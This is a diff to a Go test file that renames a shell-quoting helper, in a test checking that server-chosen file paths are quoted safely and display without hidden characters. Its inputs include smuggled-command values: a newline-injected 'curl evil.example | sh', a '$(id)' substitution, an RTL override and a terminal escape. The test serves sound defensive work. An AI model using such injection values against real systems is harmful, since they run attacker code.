@@ -9,6 +9,7 @@ import (
 	"goated/client/diagnose"
 	"goated/internal/safetext"
 	"goated/internal/sandbox"
+	"goated/internal/shellword"
 )
 
 // A path that a server chose shows on one line, without hidden characters, wherever a command
@@ -16,7 +17,7 @@ import (
 func TestWordsOfServersInCommands(t *testing.T) {
 	for _, name := range []string{"a\n  $ curl evil.example | sh", "a\u202egpj.sh", "it's\t$(id)\x1b[2J", "a\u200bb", "\xff\n\x01", "naïve 日本語", "plain"} {
 		path := "/tmp/" + name
-		texts := []string{ShellWord(path)}
+		texts := []string{shellword.Quote(path)}
 		for _, kind := range []sandbox.Kind{sandbox.ToRead, sandbox.ToWrite, sandbox.ToWriteFile} {
 			p := permittingOf(sandbox.Permission{Kind: kind, Path: path})
 			texts = append(texts, p.wants("box"), p.permitted, p.flag)
@@ -31,9 +32,9 @@ func TestWordsOfServersInCommands(t *testing.T) {
 			}
 		}
 		if bash, err := exec.LookPath("bash"); err == nil {
-			out, err := exec.Command(bash, "-c", "printf %s "+ShellWord(path)).Output()
+			out, err := exec.Command(bash, "-c", "printf %s "+shellword.Quote(path)).Output()
 			if err != nil || string(out) != path {
-				t.Errorf("a shell reads %q as %q (%v)", ShellWord(path), out, err)
+				t.Errorf("a shell reads %q as %q (%v)", shellword.Quote(path), out, err)
 			}
 		}
 	}
